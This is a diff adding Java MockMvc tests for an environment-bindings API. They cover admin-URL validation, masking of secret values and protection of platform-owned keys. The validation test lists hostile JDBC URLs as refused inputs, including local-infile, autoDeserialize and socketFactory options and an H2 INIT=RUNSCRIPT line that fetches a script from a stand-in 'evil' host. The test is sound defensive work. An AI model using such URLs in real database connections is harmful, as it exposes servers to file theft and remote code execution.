@@ -87,6 +87,76 @@ class BindingControllerTest {
 	}
 
 	@Test
+	void theProvisionersAdminUrlMustBeAPlainMySqlUrlAndARefusedOneChangesNothing() throws Exception {
+		// An environment of its own: the others' binding lists are counted by other tests.
+		mvc.perform(post("/api/environments").contentType(MediaType.APPLICATION_JSON).content("{\"name\":\"urlcheck\"}"))
+			.andExpect(status().isCreated());
+		String good = "jdbc:mysql://db.pre:3306/?useSSL=true";
+		mvc.perform(put("/api/environments/urlcheck/bindings/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"value\":\"" + good + "\",\"secret\":false}")).andExpect(status().isOk());
+		for (String[] refused : new String[][] {
+				{ "jdbc:mysql://db.pre:3306/?allowLoadLocalInfile=true", "must not set option 'allowLoadLocalInfile'" },
+				{ "jdbc:mariadb://db.pre:3306/?allowLocalInfile=true", "must not set option 'allowLocalInfile'" },
+				{ "jdbc:mysql://db.pre/?autoDeserialize=true", "must not set option 'autoDeserialize'" },
+				{ "jdbc:mysql://db.pre/?socketFactory=x.Y", "must not set option 'socketFactory'" },
+				{ "jdbc:mariadb://db.pre/?permitMysqlScheme", "must not set option 'permitMysqlScheme'" },
+				{ "jdbc:mysql://(host=db.pre,allowLoadLocalInfile=true)/", "must be jdbc:mysql://host" },
+				{ "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "must be a MySQL or MariaDB URL" } }) {
+			mvc.perform(put("/api/environments/urlcheck/bindings/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
+				.content("{\"value\":\"" + refused[0] + "\",\"secret\":true}"))
+				.andExpect(status().isBadRequest())
+				.andExpect(jsonPath("$.errors[0].field").value("value"))
+				.andExpect(jsonPath("$.detail", containsString("PLATFORM_MYSQL_ADMIN_URL " + refused[1])));
+		}
+		mvc.perform(get("/api/environments/urlcheck/bindings"))
+			.andExpect(jsonPath("$[?(@.key == 'PLATFORM_MYSQL_ADMIN_URL')].value").value(good))
+			.andExpect(jsonPath("$[?(@.key == 'PLATFORM_MYSQL_ADMIN_URL')].secret").value(false));
+	}
+
+	@Test
+	void anUpdateThatLeavesOutSecretKeepsASecretSecret() throws Exception {
+		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"name\":\"keeper\",\"repoUrl\":\"https://git.example.com/keeper.git\"}")).andExpect(status().isCreated());
+		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_TOKEN").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"value\":\"first-s3cret\",\"secret\":true}")).andExpect(status().isOk());
+
+		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_TOKEN").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"value\":\"second-s3cret\"}"))
+			.andExpect(status().isOk())
+			.andExpect(jsonPath("$.secret").value(true))
+			.andExpect(jsonPath("$.value").value("******"));
+		mvc.perform(get("/api/apps/keeper/bindings/dev"))
+			.andExpect(jsonPath("$[?(@.key == 'KEEPER_TOKEN')].value").value("******"))
+			.andExpect(content().string(org.hamcrest.Matchers.not(containsString("second-s3cret"))));
+		assertThat(jdbc.queryForObject("SELECT value_text FROM binding WHERE binding_key = 'KEEPER_TOKEN'", String.class))
+			.startsWith("v1:");
+		assertThat(bindings.effective("keeper", "dev").get("KEEPER_TOKEN").value()).isEqualTo("second-s3cret");
+
+		// A new binding without the flag is not secret; the value is required.
+		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_MODE").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"value\":\"fast\"}")).andExpect(status().isOk()).andExpect(jsonPath("$.secret").value(false));
+		mvc.perform(put("/api/apps/keeper/bindings/dev/KEEPER_MODE").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"secret\":true}"))
+			.andExpect(status().isBadRequest())
+			.andExpect(jsonPath("$.errors[0].field").value("value"));
+		mvc.perform(get("/api/apps/keeper/bindings/dev")).andExpect(jsonPath("$[?(@.key == 'KEEPER_MODE')].value").value("fast"));
+	}
+
+	@Test
+	void aServiceCannotSetThePlatformsKeysInAnyCase() throws Exception {
+		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"name\":\"casey\",\"repoUrl\":\"https://git.example.com/casey.git\"}")).andExpect(status().isCreated());
+		for (String key : new String[] { "PLATFORM_MYSQL_ADMIN_URL", "platform_mysql_admin_url", "Platform_Env" }) {
+			mvc.perform(put("/api/apps/casey/bindings/dev/" + key).contentType(MediaType.APPLICATION_JSON)
+				.content("{\"value\":\"jdbc:mysql://db.dev/\",\"secret\":false}"))
+				.andExpect(status().isBadRequest())
+				.andExpect(jsonPath("$.detail", containsString("platform's own keys")));
+		}
+		mvc.perform(get("/api/apps/casey/bindings/dev"))
+			.andExpect(jsonPath("$[?(@.source == 'service')]").isEmpty());
+	}
+
+	@Test
 	void keysMustBeEnvironmentVariableNamesAndTheEnvironmentMustExist() throws Exception {
 		mvc.perform(put("/api/environments/dev/bindings/1BAD-KEY").contentType(MediaType.APPLICATION_JSON)
 			.content("{\"value\":\"x\",\"secret\":false}"))
